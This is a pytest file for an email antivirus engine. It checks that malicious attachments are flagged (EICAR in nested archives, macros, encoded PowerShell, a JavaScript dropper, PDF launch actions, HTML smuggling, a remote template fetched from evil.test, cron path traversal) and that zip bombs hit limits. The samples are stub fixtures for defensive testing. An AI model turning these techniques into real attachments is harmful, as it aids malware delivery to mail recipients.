# SPDX-License-Identifier: Apache-2.0
"""What must be seen, what must not, and what must never look clean."""

import bz2
import gzip
import lzma
import time
import zipfile

import pytest

from mailward.contract.finding import CAUGHT_AT, points
from mailward.engines.antivirus import limits, rules
from mailward.engines.antivirus.service import Antivirus, File, Sighting
from mailward.engines.antivirus.tests import specimens
from mailward.engines.antivirus.tests.specimens import EICAR, PE, zipped

ENGINE = Antivirus()

MARK = b"\x01\x02\x03 harmless " * 3


def look(data: bytes, name: str = "file.bin", *, body: bool = False) -> Sighting:
    return ENGINE.examine([File(name=name, data=data, place=f"attachment {name}", body=body)], b"")


def ids(sighting: Sighting) -> set[str]:
    return {reason.id for reason in sighting.reasons}


def lnk(command: str) -> bytes:
    return b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60) + command.encode("utf-16-le")


CAUGHT = {
    "plain": ("eicar.com", EICAR, "eicar_test_file"),
    "zip": ("a.zip", zipped({"eicar.com": EICAR}), "eicar_test_file"),
    "zip stored": ("a.zip", zipped({"e": EICAR}, method=zipfile.ZIP_STORED), "eicar_test_file"),
    "zip bzip2": ("a.zip", zipped({"e": EICAR}, method=zipfile.ZIP_BZIP2), "eicar_test_file"),
    "zip lzma": ("a.zip", zipped({"e": EICAR}, method=zipfile.ZIP_LZMA), "eicar_test_file"),
    "zip in zip": ("a.zip", zipped({"b.zip": zipped({"e": EICAR})}), "eicar_test_file"),
    "zip after junk": ("a.zip", b"PK\x05\x06" + bytes(18) + zipped({"e": EICAR}), "eicar_test_file"),
    "zip with hidden member": (
        "a.zip",
        specimens.zip_with_hidden({"readme.txt": b"hello"}, {"e": EICAR}),
        "eicar_test_file",
    ),
    "zip cut off": ("a.zip", zipped({"e": EICAR, "f": b"x" * 99})[:-80], "eicar_test_file"),
    "gzip": ("a.gz", gzip.compress(EICAR), "eicar_test_file"),
    "gzip in pieces": ("a.gz", gzip.compress(EICAR[:20]) + gzip.compress(EICAR[20:]), "eicar_test_file"),
    "bzip2": ("a.bz2", bz2.compress(EICAR), "eicar_test_file"),
    "xz": ("a.xz", lzma.compress(EICAR), "eicar_test_file"),
    "tar.gz": ("a.tgz", gzip.compress(specimens.tarred({"d/" + "x" * 120: EICAR})), "eicar_test_file"),
    "disk image": ("a.img", specimens.iso_with("PAY.EXE", PE), "disk_image_holds_program"),
    "file in a disk image": ("a.iso", specimens.iso_with("E.TXT", EICAR), "eicar_test_file"),
    "macro": ("a.doc", specimens.ole_with_macro(), "macro_runs_by_itself_and_starts_programs"),
    "macro in a new document": (
        "a.docm",
        zipped({"word/vbaProject.bin": specimens.ole_with_macro()}),
        "macro_runs_by_itself_and_starts_programs",
    ),
    "template from outside": (
        "a.docx",
        zipped(
            {
                "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        "document_template_from_outside",
    ),
    "javascript dropper": (
        "invoice.js",
        b"var x=new ActiveXObject('MSXML2.XMLHTTP');var s=new ActiveXObject('WScript.Shell');s.Run('a.exe')",
        "script_dropper",
    ),
    "hta": ("a.hta", b"<html><hta:application id=x><script>1</script>", "html_application"),
    "encoded script": ("a.vbe", b"#@~^AAAAAA==abcABC==^#~@", "encoded_script"),
    "html smuggling": (
        "doc.html",
        (
            b"<html><script>var b=atob('AAAA');var u=new Uint8Array(9);var f=new Blob([u]);"
            b"a.href=URL.createObjectURL(f);a.download='x.zip';a.click()</script>"
        ),
        "html_smuggling",
    ),
    "svg with script": (
        "a.svg",
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>window.location='http://e.test'</script>",
        "svg_with_script",
    ),
    "shortcut": (
        "doc.lnk",
        lnk("C:\\Windows\\System32\\WindowsPowerShell\\powershell.exe -w hidden"),
        "shortcut_starts_interpreter",
    ),
    "encoded powershell": (
        "a.bat",
        b"powershell -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwA=",
        "powershell_encoded",
    ),
    "pdf launch": (
        "a.pdf",
        specimens.pdf_with(b"/OpenAction <</S /Launch /Win <</F (cmd.exe) /P (x)>>>>"),
        "pdf_starts_program",
    ),
    "pdf launch, packed": (
        "a.pdf",
        specimens.pdf_with(b"/OpenAction <</S /Launch /Win <</F (cmd.exe) /P (x)>>>>", packed=True),
        "pdf_starts_program",
    ),
    "onenote": (
        "a.one",
        specimens.onenote_with(b'<script>createobject("wscript.shell")</script>'),
        "onenote_carries_program",
    ),
    "rtf formula": (
        "a.doc",
        specimens.rtf_with(b"\x01\x05\0\0\x02\0\0\0\x0b\0\0\0Equation.3\0" + bytes(40)),
        "rtf_equation_object",
    ),
    "double extension": ("invoice.pdf.exe", PE, "double_extension"),
    "double extension with a gap": ("invoice" + " " * 60 + ".scr", PE, "double_extension"),
    "program named as a picture": ("photo.jpg", PE, "program_in_disguise"),
    "program named as a document, zipped": ("a.zip", zipped({"scan.pdf": PE}), "program_in_disguise"),
    "name written backwards": ("a.zip", zipped({"ann\u202egnp.exe": PE}), "file_name_reversed"),
    "screen saver": ("a.scr", b"anything", "dangerous_file_type"),
    "locked program": ("a.zip", specimens.encrypted_zip("invoice.js"), "encrypted_program"),
    "archive that climbs": ("a.zip", zipped({"../../etc/cron.d/x": MARK}), "archive_path_escapes"),
}


@pytest.mark.parametrize(("name", "data", "expected"), CAUGHT.values(), ids=CAUGHT)
def test_is_caught(name, data, expected):
    sighting = look(data, name)
    assert expected in ids(sighting)
    assert points(sighting.reasons) >= CAUGHT_AT
    assert not sighting.failure


QUIET = {
    "text": ("a.txt", b"Dear Sam,\nhere is the powershell course you asked for.\n"),
    "zip of texts": ("a.zip", zipped({"a.txt": MARK, "b/c.txt": MARK, "b/": b""})),
    "zip of zips": ("a.zip", zipped({f"{n}.zip": zipped({"a": MARK}) for n in range(20)})),
    "patch": ("0001.patch", b"diff --git a/x.py b/x.py\n+eval('1')\n+subprocess.run(['sh'])\n"),
    "page": ("report.html", b"<html><body><a href='https://example.test'>x</a><script>var a=1</script></body></html>"),
    "picture": ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(300)),
    "macro that only formats": ("a.xls", specimens.ole_with_macro('Attribute VB_Name = "M"\nSub Tidy()\nEnd Sub\n')),
    "form": ("form.pdf", specimens.pdf_with(b"<</Names [(a) <</JS (var a = 1;)>>]>>")),
    "locked archive": ("a.zip", specimens.encrypted_zip("contract.pdf")),
    "letters MZ": ("MZ.txt", b"MZ is the sign of Mark Zbikowski, who worked on DOS. " * 4),
    "program": ("tool.exe", PE),
    "empty": ("a.zip", b""),
}


@pytest.mark.parametrize(("name", "data"), QUIET.values(), ids=QUIET)
def test_is_not_caught(name, data):
    sighting = look(data, name)
    assert points(sighting.reasons) < CAUGHT_AT
    assert not sighting.failure


def deep(levels: int) -> bytes:
    data = EICAR
    for level in range(levels):
        data = zipped({f"{level}.zip": data})
    return data


def bomb(size: int) -> bytes:
    return zipped({"zeros": bytes(size)})


OVER = {
    "files": ("archive_files", zipped({**{f"{n}": b"x" for n in range(limits.MAX_FILES)}, "last": EICAR})),
    "files in nested archives": (
        "archive_files",
        zipped({f"{n}.zip": zipped({f"{m}": b"x" for m in range(40)}) for n in range(20)}),
    ),
    "depth": ("archive_depth", deep(limits.MAX_DEPTH + 1)),
    "ratio": ("archive_ratio", bomb(20 * 1024 * 1024)),
    "ratio in gzip": ("archive_ratio", gzip.compress(bytes(20 * 1024 * 1024))),
    "ratio in bzip2": ("archive_ratio", bz2.compress(bytes(20 * 1024 * 1024))),
    "method": ("archive_method", zipped({"a": MARK}).replace(b"\x08\x00", b"\x09\x00")),
}


@pytest.mark.parametrize(("limit", "data"), OVER.values(), ids=OVER)
def test_over_a_limit_is_a_failure(limit, data):
    assert look(data, "a.zip").failure.startswith(f"limit={limit}: ")


def test_at_the_limits_everything_is_seen():
    full = zipped({**{f"{n}": b"x" for n in range(limits.MAX_FILES - 1)}, "last": EICAR})
    for data in (full, deep(limits.MAX_DEPTH)):
        sighting = look(data, "a.zip")
        assert "eicar_test_file" in ids(sighting)
        assert not sighting.failure


def test_member_size_limit(monkeypatch):
    monkeypatch.setattr(limits, "MAX_MEMBER_BYTES", 5000)
    noise = bytes(range(256)) * 20
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        assert look(zipped({"a": noise}, method=method)).failure.startswith("limit=archive_member_bytes")
    monkeypatch.setattr(limits, "MAX_TOTAL_BYTES", 6000)
    assert look(zipped({"a": noise[:4000], "b": noise[:4000]})).failure.startswith("limit=archive_total_bytes")


def test_sixty_thousand_entries_cost_little():
    data = zipped({f"{n}": b"" for n in range(60_000)}, method=zipfile.ZIP_STORED)
    started = time.process_time()
    sighting = look(data, "a.zip")
    assert sighting.failure.startswith("limit=archive_files")
    assert time.process_time() - started < 0.5


def test_a_zip_that_contains_itself_ends():
    overlapping = bytearray(zipped({f"{n:03}": bytes(100_000) for n in range(100)}))
    first = overlapping.find(b"PK\x01\x02")
    at = first
    while at >= 0:
        overlapping[at + 42 : at + 46] = bytes(4)
        at = overlapping.find(b"PK\x01\x02", at + 4)
    started = time.process_time()
    look(bytes(overlapping), "a.zip")
    assert time.process_time() - started < 3


def test_what_came_before_a_limit_still_counts():
    data = zipped({"first": EICAR, **{f"{n}": b"x" for n in range(limits.MAX_FILES)}})
    sighting = look(data, "a.zip")
    assert "eicar_test_file" in ids(sighting)
    assert sighting.failure.startswith("limit=archive_files")


def test_in_the_mail_itself_and_in_its_text():
    assert "eicar_test_file" in ids(ENGINE.examine([], b"Subject: x\r\n\r\n" + EICAR))
    assert "eicar_test_file" in ids(look(EICAR, "", body=True))


def test_the_body_of_a_mail_may_speak_of_anything():
    talk = b'Set s = CreateObject("WScript.Shell") and then s.Run with MSXML2.XMLHTTP'
    assert ids(look(talk, "", body=True)) == set()


def test_reasons_say_where_and_what():
    (reason,) = look(zipped({"b.zip": zipped({"run.js": b"x"})}), "a.zip").reasons
    assert reason.place == "attachment a.zip > b.zip > run.js"
    assert reason.evidence == "run.js"


def test_rules_explain_themselves():
    for rule in ENGINE.rules:
        assert rule.text.endswith(".")
        assert 0 < rule.weight <= 10
    with pytest.raises(rules.RuleError):
        rules.Ruleset({"a": "rule x { condition: true }"})
    with pytest.raises(rules.RuleError):
        rules.Ruleset({"a": "rule x {"})


def test_odd_bytes_never_raise():
    for data in (
        PE[:70],
        b"PK\x05\x06" + bytes(18),
        b"PK\x03\x04" + bytes(10),
        b"\x1f\x8b\x08",
        b"BZh9",
        b"\xfd7zXZ\0x",
        b"%PDF-/ObjStm stream\nxx",
        b"{\\rtf\\objdata 0",
        bytes(257) + b"ustar" + bytes(250),
        bytes(32768) + b"\x01CD001" + bytes(3000),
    ):
        for cut in range(len(data) % 7 + 1):
            assert ENGINE.examine([File(name="x", data=data[cut:], place="x")], data).failure == ""
